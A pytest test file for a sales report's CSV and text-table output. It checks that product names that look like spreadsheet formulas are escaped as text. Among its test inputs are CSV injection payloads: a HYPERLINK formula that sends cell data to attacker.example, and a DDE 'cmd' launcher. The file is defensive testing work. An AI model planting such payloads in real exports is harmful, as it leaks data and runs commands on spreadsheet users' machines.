"""The report as text and CSV: a product name never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest

from reports.formats import report_csv, report_table
from reports.models import Report


def report_of(*names: str) -> Report:
    products = [
        {"product_id": n, "sku": f"SKU-{n}", "name": name, "quantity": 1, "revenue": "10.00"}
        for n, name in enumerate(names, start=1)
    ]
    data = {
        "date": "2025-11-27",
        "time_zone": "Europe/Berlin",
        "orders": 3,
        "paid_orders": 2,
        "revenue": "20.00",
        "average_order_value": "10.00",
        "new_customers": 1,
        "payments_failed": {"insufficient_funds": 1, "card_expired": 0, "failed": 0},
        "top_products": products,
    }
    return Report(date=date(2025, 11, 27), data=data)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd\\|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'=1+1"),
        ("\r\n=1+1", "'=1+1"),
        ("Mug = cup", "Mug = cup"),
    ],
)  # fmt: skip
def test_a_product_name_that_looks_like_a_formula_is_written_as_text(name, cell):
    rows = list(csv.reader(io.StringIO(report_csv(report_of(name)))))
    assert rows[-1] == ["1", "SKU-1", cell, "1", "10.00"]


def test_the_csv_keeps_figures_as_numbers_and_lists_failed_payments_by_reason():
    rows = list(csv.reader(io.StringIO(report_csv(report_of("Mug")))))
    assert rows[:9] == [
        ["Figure", "Value"],
        ["Orders", "3"],
        ["Paid orders", "2"],
        ["Revenue", "20.00"],
        ["Average order value", "10.00"],
        ["New customers", "1"],
        ["Payments failed: insufficient funds", "1"],
        ["Payments failed: card expired", "0"],
        ["Payments failed: gateway error", "0"],
    ]
    assert rows[9:11] == [[], ["#", "SKU", "Product", "Quantity", "Revenue"]]


def test_the_table_has_the_figures_then_the_top_products():
    table = report_table(report_of("Mug", "Pen"))
    assert table.splitlines()[0] == "Daily report for 2025-11-27 (Europe/Berlin)"
    assert re.search(r"^Average order value\s+10\.00$", table, re.MULTILINE)
    assert re.search(r"^Payments failed: gateway error\s+0$", table, re.MULTILINE)
    assert re.search(r"^\s+2\s+SKU-2\s+Pen\s+1\s+10\.00$", table, re.MULTILINE)
    assert "No paid orders." in report_table(report_of())
